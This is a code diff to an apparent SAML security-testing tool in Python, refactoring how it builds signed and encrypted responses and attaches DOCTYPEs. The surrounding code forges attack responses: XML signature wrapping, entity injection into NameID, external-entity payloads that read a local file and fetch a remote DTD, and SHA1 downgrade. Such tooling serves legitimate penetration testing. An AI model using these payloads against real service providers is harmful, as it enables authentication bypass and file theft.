@@ -27,6 +27,7 @@ import tempfile
 import urllib.parse
 import warnings
 import zlib
+from xml.etree import ElementTree
 
 warnings.filterwarnings("ignore")  # pysaml2 imports deprecated `cryptography` names
 
@@ -49,6 +50,8 @@ NS = {
     "xenc": "http://www.w3.org/2001/04/xmlenc#",
     "md": md.NAMESPACE,
 }
+for _prefix, _uri in NS.items():  # pysaml2 serialises through ElementTree: readable prefixes
+    ElementTree.register_namespace(_prefix, _uri)
 SAMLP, SAML, DS, XENC = (f"{{{NS[p]}}}" for p in ("samlp", "saml", "ds", "xenc"))
 XENC11 = "http://www.w3.org/2009/xmlenc11#"
 
@@ -378,7 +381,7 @@ class Idp:
     def sign_template(self, ident, identifier, uri=None):
         sig = pre_signature_part(ident, self.server.sec.my_cert, identifier, sign_alg=self.sign_alg, digest_alg=self.digest_alg)
         if uri is not None:
-            sig.signed_info.reference[0].uri = uri
+            sig.signed_info.reference.uri = uri
         return sig
 
     def build(self, sign, encrypt_cert=None, name_id=None, before_sign=None, before_encrypt=None, reference_uri=None):
@@ -437,10 +440,15 @@ def encrypt_rsa_oaep(xml, cert, cert_b64, msg_alg, session_key, a):
     digest_cls, digest_uri = OAEP_HASHES[a.oaep_digest]
     mgf_cls, _ = OAEP_HASHES[a.oaep_mgf]
     key_bytes = secrets.token_bytes(int(session_key.split("-")[1]) // 8)
-    template = pre_encryption_part(msg_enc=msg_alg, key_name="session")
+    template = (
+        f'<xenc:EncryptedData xmlns:xenc="{NS["xenc"]}" xmlns:ds="{NS["ds"]}" Id="{new_id("ED")}" '
+        f'Type="{NS["xenc"]}Element"><xenc:EncryptionMethod Algorithm="{msg_alg}"/>'
+        "<ds:KeyInfo><ds:KeyName>session</ds:KeyName></ds:KeyInfo>"
+        "<xenc:CipherData><xenc:CipherValue/></xenc:CipherData></xenc:EncryptedData>"
+    ).encode()
     with tempfile.TemporaryDirectory() as tmp:
         paths = {n: os.path.join(tmp, n) for n in ("key.bin", "data.xml", "template.xml")}
-        for name, content in (("key.bin", key_bytes), ("data.xml", xml.encode()), ("template.xml", template.to_string())):
+        for name, content in (("key.bin", key_bytes), ("data.xml", xml.encode()), ("template.xml", template)):
             with open(paths[name], "wb") as f:
                 f.write(content)
         result = subprocess.run(
@@ -600,11 +608,14 @@ def xsw_response(kind, evil_name):
     return tamper
 
 
-def on_tree(fn):
+def on_tree(fn, doctype=None):
+    """A tamper step that edits the parsed document (and may add a DOCTYPE)."""
+
     def tamper(xml):
         root = parse_xml(xml)
         fn(root)
-        return to_xml(root)
+        name = f"{root.prefix}:Response" if root.prefix else "Response"
+        return to_xml(root, doctype=doctype.replace("{root}", name) if doctype else None)
 
     return tamper
 
@@ -630,7 +641,6 @@ def cmd_attack(args):
     name = args.name_id
     build = dict(sign=sign, encrypt_cert=args.encrypt_cert)
     tamper = None  # applied to the final document (or, encrypted, before encryption)
-    doctype = None
 
     if kind in ASSERTION_XSW:
         tamper = xsw_assertion(kind, evil)
@@ -717,8 +727,7 @@ def cmd_attack(args):
             nid.text = name
             nid.append(etree.Entity("x"))
 
-        tamper = on_tree(entity)
-        doctype = f'<!DOCTYPE {{root}} [<!ENTITY x "{suffix}">]>'
+        tamper = on_tree(entity, f'<!DOCTYPE {{root}} [<!ENTITY x "{suffix}">]>')
     elif kind == "external-entity":
 
         def external(root):
@@ -726,10 +735,10 @@ def cmd_attack(args):
             nid.append(etree.Entity("file"))
             nid.append(etree.Entity("net"))
 
-        tamper = on_tree(external)
-        doctype = (
+        tamper = on_tree(
+            external,
             f'<!DOCTYPE {{root}} [<!ENTITY file SYSTEM "{args.entity_file}">'
-            f'<!ENTITY net SYSTEM "{args.entity_url}"><!ENTITY % remote SYSTEM "{args.entity_url}dtd"> %remote;]>'
+            f'<!ENTITY net SYSTEM "{args.entity_url}"><!ENTITY % remote SYSTEM "{args.entity_url}dtd"> %remote;]>',
         )
     elif kind == "sha1":
         idp.sign_alg, idp.digest_alg = ds.SIG_RSA_SHA1, ds.DIGEST_SHA1
@@ -747,9 +756,6 @@ def cmd_attack(args):
     xml = idp.build(**build)
     if tamper:
         xml = tamper(xml)
-    if doctype:
-        root = parse_xml(xml)
-        xml = to_xml(root, doctype=doctype.replace("{root}", root.prefix + ":Response" if root.prefix else "Response"))
     emit(args, xml)
 
 
@@ -832,10 +838,7 @@ def cmd_logout_response(args):
     request = samlp.LogoutRequest(
         id=args.in_response_to, issuer=saml.Issuer(text=args.sp_entity_id), version="2.0", issue_instant="2000-01-01T00:00:00Z"
     )
-    code, sub = STATUSES[args.status]
-    status = samlp.Status(
-        status_code=samlp.StatusCode(value=code, status_code=samlp.StatusCode(value=sub) if sub else None)
-    )
+    status = samlp.Status(status_code=samlp.StatusCode(value=STATUSES[args.status][0]))
     binding = BINDING_HTTP_REDIRECT if args.binding == "redirect" else BINDING_HTTP_POST
     response = server.create_logout_response(
         request,
